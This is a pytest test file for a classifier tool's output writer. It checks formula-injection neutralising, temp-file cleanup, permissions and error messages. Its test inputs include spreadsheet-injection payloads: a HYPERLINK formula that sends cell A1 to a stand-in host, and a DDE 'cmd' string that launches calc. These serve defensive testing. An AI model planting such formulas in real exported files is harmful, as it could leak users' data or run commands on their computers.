"""Findings 2, 7, 8, 9 (writing), 10: outputs carry no live formula, leave nothing behind, keep permissions."""

import csv
import errno
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from classifier.cli.main import app
from classifier.errors import OutputError, OutputLimitError
from classifier.io import safety
from classifier.io.safety import needs_neutralising, neutralise
from classifier.io.writer import TableWriter, write_table
from tests.conftest import ROOT, write_csv

runner = CliRunner()
TRIGGERS = "=+-@\t\r"
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "＝1+1",
    "=1+1",
]


def run(*args):
    return runner.invoke(app, [str(a) for a in args])


# ---------------------------------------------------------------- neutralising


def _live(cell: str) -> bool:
    """What a spreadsheet would evaluate: a trigger first (after spaces/newlines), and not a plain number."""
    return needs_neutralising(cell)


@given(st.text(max_size=30))
def test_neutralise_only_prefixes_a_quote_and_only_when_needed(text):
    out = neutralise(text)
    assert out == text or out == "'" + text
    assert (out != text) == _live(text)
    assert not _live(out)


@pytest.mark.parametrize("value", ["-5", "+44", "-3.5", "12", "-0.25", "1e5"])
def test_plain_numbers_are_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_are_neutralised(value):
    assert neutralise(value) == "'" + value


cells = st.text(st.characters(blacklist_categories=("Cs",)), max_size=25) | st.sampled_from(FORMULAS)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    header=st.lists(cells, min_size=1, max_size=4, unique=True),
    rows=st.lists(st.lists(cells, min_size=4, max_size=4), max_size=6),
)
def test_no_csv_cell_or_header_is_live(tmp_path, header, rows):
    header = [h or f"c{i}" for i, h in enumerate(header)]
    frame = pd.DataFrame([r[: len(header)] for r in rows], columns=header)
    out = tmp_path / "o.csv"
    with TableWriter(out, header) as w:
        w.write(frame)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh))
    for row in back:
        for cell in row:
            assert not _live(cell), cell
    assert len(back) == len(rows) + 1


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    header=st.lists(st.sampled_from(FORMULAS) | st.text(min_size=1, max_size=10), min_size=1, max_size=3, unique=True),
    values=st.lists(st.sampled_from(FORMULAS) | st.text(max_size=15), min_size=1, max_size=6),
)
def test_no_xlsx_cell_or_header_is_a_formula(tmp_path, header, values):
    from openpyxl import load_workbook

    frame = pd.DataFrame({h: values for h in header})
    out = tmp_path / "o.xlsx"
    write_table(frame, out)
    wb = load_workbook(out)  # not read-only: data_type tells formulas from text
    for row in wb.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


def test_label_and_redact_outputs_have_no_live_formula(tmp_path, small_model_dir):
    from openpyxl import load_workbook

    data = write_csv(
        tmp_path / "in.csv",
        [
            {"id": "=1+1", "text": '=HYPERLINK("http://x.example","my worker never rang")', "=cmd|' /C calc'!A0": "@x"},
            {"id": "-2", "text": "+ my pa is late with my grant", "=cmd|' /C calc'!A0": "-1+1"},
        ],
    )
    for out in (tmp_path / "l.csv", tmp_path / "l.xlsx"):
        r = run("label", data, "-o", out, "--model", small_model_dir)
        assert r.exit_code == 0, r.output
    for out in (tmp_path / "r.csv", tmp_path / "r.xlsx"):
        r = run("redact", data, "-o", out)
        assert r.exit_code == 0, r.output
    for name in ("l.csv", "r.csv"):
        with (tmp_path / name).open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                assert not any(_live(c) for c in row), row
    for name in ("l.xlsx", "r.xlsx"):
        for row in load_workbook(tmp_path / name).active.iter_rows():
            assert all(c.data_type != "f" for c in row)
    # Nothing else changed: the prefix is the only difference.
    back = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8-sig")))
    assert back[1]["id"] == "-2" and back[0]["id"] == "'=1+1"


# ---------------------------------------------------------------- leftovers


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def test_failed_write_leaves_no_temp_file_and_no_output(tmp_path):
    out = tmp_path / "o.xlsx"
    w = TableWriter(out, ["text"])
    with pytest.raises(OutputLimitError, match="32,767"):
        w.write(pd.DataFrame({"text": ["x" * 40_000]}))
    w.abort()
    assert not out.exists() and _leftovers(tmp_path) == []
    assert safety.live_temp_files() == []


def test_xlsx_sheet_temp_files_live_beside_the_output_and_are_removed(tmp_path, monkeypatch):
    tmpdir = tmp_path / "systmp"
    tmpdir.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(tmpdir))
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    w = TableWriter(out_dir / "o.xlsx", ["text"])
    w.write(pd.DataFrame({"text": ["a", "b"]}))
    assert any(n.endswith(".sheet.xml") for n in _leftovers(out_dir))  # streamed beside the output
    w.close()
    assert list(tmpdir.iterdir()) == [] and _leftovers(out_dir) == []


def test_rows_past_excel_limit_continue_on_a_new_sheet(tmp_path, monkeypatch):
    from openpyxl import load_workbook

    monkeypatch.setattr("classifier.io.limits.XLSX_MAX_ROWS", 5)
    write_table(pd.DataFrame({"n": [str(i) for i in range(12)]}), tmp_path / "o.xlsx")
    wb = load_workbook(tmp_path / "o.xlsx")
    values = []
    for ws in wb.worksheets:
        rows = [r[0] for r in ws.iter_rows(values_only=True)]
        assert rows[0] == "n" and len(rows) <= 5
        values += rows[1:]
    assert values == [str(i) for i in range(12)] and len(wb.worksheets) == 3


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_signal_during_a_run_leaves_no_temp_copy(tmp_path, sig, suffix):
    """SIGTERM/SIGHUP unwind like Ctrl-C: no hidden copy of the input beside the output, none in /tmp."""
    src = list(csv.DictReader((ROOT / "training_data" / "representations.csv").open(encoding="utf-8")))
    data = write_csv(tmp_path / "big.csv", [{"id": str(i), "text": src[i % len(src)]["text"]} for i in range(60000)])
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    systmp = tmp_path / "systmp"
    systmp.mkdir()
    env = {**os.environ, "TMPDIR": str(systmp)}
    cmd = [sys.executable, "-m", "classifier", "redact", str(data), "-o", str(out_dir / f"o{suffix}")]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd=ROOT)
    deadline = time.time() + 60
    while time.time() < deadline and not _leftovers(out_dir):  # wait until it is writing
        time.sleep(0.05)
    assert _leftovers(out_dir), "the run never started writing"
    time.sleep(0.3)
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 128 + sig
    assert b"stopped by a signal" in err
    assert list(out_dir.iterdir()) == [] and list(systmp.iterdir()) == []


# ---------------------------------------------------------------- permissions, paths, OSError


def test_cli_umask_and_kept_permissions(tmp_path):
    data = write_csv(tmp_path / "in.csv", [{"id": "1", "text": "hello"}])
    out = tmp_path / "o.csv"
    assert run("redact", data, "-o", out).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    os.chmod(out, 0o640)
    assert run("redact", data, "-o", out).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o640
    out2 = tmp_path / "o2.csv"
    assert run("--umask", "022", "redact", data, "-o", out2).exit_code == 0
    assert stat.S_IMODE(out2.stat().st_mode) == 0o644
    safety.set_umask(None)


def test_child_output_equal_to_output_or_input_is_refused(tmp_path, small_model_dir):
    data = write_csv(tmp_path / "in.csv", [{"id": "1", "text": "my sw never rings me back"}])
    out = tmp_path / "o.csv"
    out.write_text("keep me")
    r = run("label", data, "-o", out, "--child-output", out, "--model", small_model_dir)
    assert r.exit_code == 1 and "--child-output and --output are the same file" in r.output
    assert out.read_text() == "keep me"
    r = run("label", data, "-o", out, "--child-output", data, "--model", small_model_dir)
    assert r.exit_code == 1 and "--child-output is the input file" in r.output
    r = run("label", data, "-o", out, "--child-output", tmp_path / "." / "o.csv", "--model", small_model_dir)
    assert r.exit_code == 1
    assert out.read_text() == "keep me" and _leftovers(tmp_path) == []


def test_two_writers_may_not_share_a_target(tmp_path):
    with TableWriter(tmp_path / "o.csv", ["a"]):
        with pytest.raises(OutputError, match="already being written"):
            TableWriter(tmp_path / "o.csv", ["a"])


@pytest.mark.parametrize(
    "code, words", [(errno.ENOSPC, "disk is full"), (errno.EACCES, "not writable"), (errno.EROFS, "not writable")]
)
def test_oserror_on_write_is_one_line_naming_the_fix(tmp_path, monkeypatch, code, words):
    data = write_csv(tmp_path / "in.csv", [{"id": "1", "text": "hello"}])

    def failing_replace(src, dst):
        raise OSError(code, os.strerror(code), str(dst))

    monkeypatch.setattr("classifier.io.writer.os.replace", failing_replace)
    r = run("redact", data, "-o", tmp_path / "o.csv")
    assert r.exit_code == 1
    lines = [ln for ln in r.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and words in lines[0] and "report it" not in lines[0]
    assert _leftovers(tmp_path) == []


def test_oserror_when_creating_the_temp_file_is_mapped(tmp_path, monkeypatch):
    def no_space(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("classifier.io.writer.tempfile.mkstemp", no_space)
    with pytest.raises(OutputError, match="disk is full"):
        TableWriter(tmp_path / "o.csv", ["a"])


def test_folder_that_takes_no_new_files_is_not_called_missing(tmp_path, monkeypatch):
    # /proc answers ENOENT to a new file although the folder exists
    def no_entry(*a, **k):
        raise FileNotFoundError(errno.ENOENT, "No such file or directory")

    monkeypatch.setattr("classifier.io.writer.tempfile.mkstemp", no_entry)
    with pytest.raises(OutputError, match="cannot create files in the folder") as err:
        TableWriter(tmp_path / "o.csv", ["a"])
    assert "does not exist" not in str(err.value)


def test_unmapped_oserror_still_gives_one_line(tmp_path, monkeypatch):
    from classifier.cli.common import friendly

    @friendly
    def boom():
        raise PermissionError(errno.EACCES, "Permission denied", str(tmp_path / "x.csv"))

    import typer

    with pytest.raises(typer.Exit) as exc:
        boom()
    assert exc.value.exit_code == 1


def test_annual_report_workbook_keeps_formula_like_text_as_text(tmp_path):
    from openpyxl import Workbook, load_workbook

    from classifier.report.render_xlsx import _text_never_formulas

    wb = Workbook()
    wb.active.append(["Service", '=HYPERLINK("http://x.example","click")'])
    assert wb.active["B1"].data_type == "f"  # what openpyxl would write without the guard
    _text_never_formulas(wb)
    wb.save(tmp_path / "r.xlsx")
    cell = load_workbook(tmp_path / "r.xlsx")["Sheet"]["B1"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")


def test_a_model_folder_that_cannot_be_written_is_refused_before_any_work(tmp_path, monkeypatch):
    from classifier.pipeline import adapt as adapt_module

    def never(*a, **k):
        raise AssertionError("adapting started although the folder cannot be written")

    monkeypatch.setattr(adapt_module, "adapt_model", never)
    data = write_csv(tmp_path / "own.csv", [{"text": "still waiting", "themes": "delay"}])
    taken = tmp_path / "taken.csv"
    taken.write_text("x", encoding="utf-8")
    r = run("adapt", data, "--out", taken)
    assert r.exit_code == 1 and "E400" in r.output and "--out" in r.output and "is a file" in r.output
    r = run("adapt", data, "--out", taken / "model")
    assert r.exit_code == 1 and "which is a file" in r.output and "--out" in r.output
